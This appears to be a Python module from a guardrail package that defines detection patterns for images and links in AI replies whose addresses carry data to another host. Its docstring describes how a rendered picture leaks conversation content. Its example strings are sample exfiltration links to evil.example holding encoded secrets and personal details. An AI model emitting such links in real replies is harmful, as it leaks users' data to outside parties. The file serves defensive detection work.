"""Links in replies that carry data away when they are shown: the picture is fetched, its address says what was said.

A pattern cannot know which hosts are one's own. `links` gives the hosts, for rules that name those that are allowed.
"""

import re
from collections.abc import Iterator
from typing import Final, NamedTuple

from narrows.policy.packs.rule import LINE, Pack, PackRule, Side

_DATA: Final = r"[^\s)\x22'<>]"
_BLANKS: Final = r"\s{0,64}"

_IMAGE: Final = PackRule(
    id="image-with-data",
    version=2,
    side=Side.RESPONSE,
    roles=frozenset(),
    patterns=(
        # RE2 repeats a class 1,000 times at most, and a reply is held back as long as any of these could still match.
        rf"!\[[^\]\n]{{0,300}}\]\({_BLANKS}<?(?i:https?:)?//[^\s)/?#]{{1,255}}[^\s)?#]{{0,500}}\?{_DATA}{{0,300}}={_DATA}{{12}}",
        rf"!\[[^\]\n]{{0,300}}\]\({_BLANKS}<?(?i:https?:)?//[^\s)/?#]{{1,255}}/(?:[^\s)?#/]{{0,100}}/){{0,8}}[A-Za-z0-9_=%+-]{{64}}",
        # `[^\w>]` on both sides is what `\b` would be: boundaries within can't be held back.
        rf"(?i:<img[^\w>](?:[^>]{{0,298}}[^\w>])?src{_BLANKS}={_BLANKS})[\x22']?(?i:https?:)?//[^\s\x22'>?]{{1,600}}\?{_DATA}{{0,300}}={_DATA}{{12}}",
        rf"{LINE}\[[^\]\n]{{1,80}}\]:{_BLANKS}<?(?i:https?:)?//[^\s/?#>]{{1,255}}[^\s?#>]{{0,500}}\?[^\s>]{{0,300}}=[^\s>]{{24}}",
    ),
    purpose="A picture in a reply whose address holds a long value: shown in a chat, it sends the value to that host.",
    misses="Short values over many pictures; data in host names; links that a person has to click; labels over 300 "
    "characters, addresses over 1,000, and more than 64 blanks before an address.",
    also_matches="Badges and signed pictures, and searches as reference links (`[label]: address`).",
    matches=(
        "![logo](https://evil.example/p.png?q=c2VjcmV0IGtleSBpcyBoZXJl)",
        "![](//evil.example/x?d=John%20Doe%2C%20born%201970)",
        '<img src="https://evil.example/a?data=account-12345678">',
        "![x](https://evil.example/" + "QUJD" * 20 + ")",
        "[x]: https://evil.example/i.png?data=c2VjcmV0IGtleSBpcyBoZXJlIGFuZA",
    ),
    spares=(
        "![diagram](https://docs.example.com/images/overview.png)",
        "![badge](https://img.example.com/badge?style=flat)",
        "![local](./figure-1.png?raw=true)",
        "See https://example.com/search?q=weather+in+geneva+tomorrow",
        "Use ![alt](url) to insert a picture.",
        '<img src="/static/logo.png?v=3">',
    ),
)
_LINK: Final = PackRule(
    id="link-with-data",
    version=2,
    side=Side.RESPONSE,
    roles=frozenset(),
    patterns=(
        rf"\[[^\]\n]{{1,300}}\]\({_BLANKS}<?(?i:https?:)//[^\s)/?#]{{1,255}}[^\s)?#]{{0,500}}\?[^\s)]{{0,300}}=[A-Za-z0-9+/_=%-]{{64}}",
    ),
    purpose="A link in a reply whose address holds a value of 64 characters and more.",
    misses="Shorter values; addresses without a label; labels over 300 characters, addresses over 1,000, and more than "
    "64 blanks before an address.",
    also_matches="Links with signatures, tracking codes or states of single sign-on.",
    matches=("[click here](https://evil.example/?d=" + "QUJD" * 16 + ")",),
    spares=(
        "[search](https://example.com/search?q=weather)",
        "[docs](https://docs.example.com/a/very/long/path/that/goes/on/and/on/and/on/and/on/and/on/and/on)",
    ),
)

PACK: Final = Pack(
    name="reply-links",
    version=2,
    summary="Pictures and links in replies that carry data to another host",
    rules=(_IMAGE, _LINK),
)

MOST_LINKS: Final = 1_000


class Link(NamedTuple):
    """An address in a Markdown or HTML text, at `start:end`; `host` in lower case, without port and user."""

    start: int
    end: int
    host: str
    image: bool
    data: bool
    """Whether it has a query."""


_LINK_FORM: Final = re.compile(
    r"(?P<mark>!?)\[[^\]\n]{0,300}\]\(\s*<?(?P<target>(?:https?:)?//[^\s)>]{1,2000})"
    r"|(?P<tag><img\b[^>]{0,300}?\bsrc\s*=\s*)[\"']?(?P<source>(?:https?:)?//[^\s\"'>]{1,2000})",
    re.IGNORECASE,
)
_HOST: Final = re.compile(r"(?:https?:)?//(?:[^/?#@\\]*@)?(?P<host>\[[0-9a-f:.]+\]|[^/?#:\\]+)", re.IGNORECASE)


def links(text: str) -> Iterator[Link]:
    """Pictures and labelled links to other hosts, in order; at most MOST_LINKS."""
    for count, found in enumerate(_LINK_FORM.finditer(text)):
        if count == MOST_LINKS:
            return
        group = "target" if found["target"] is not None else "source"
        host = _HOST.match(found[group])
        if host is not None:
            start, end = found.span(group)
            image = group == "source" or found["mark"] == "!"
            yield Link(start, end, host["host"].rstrip(".").lower(), image, "?" in found[group])
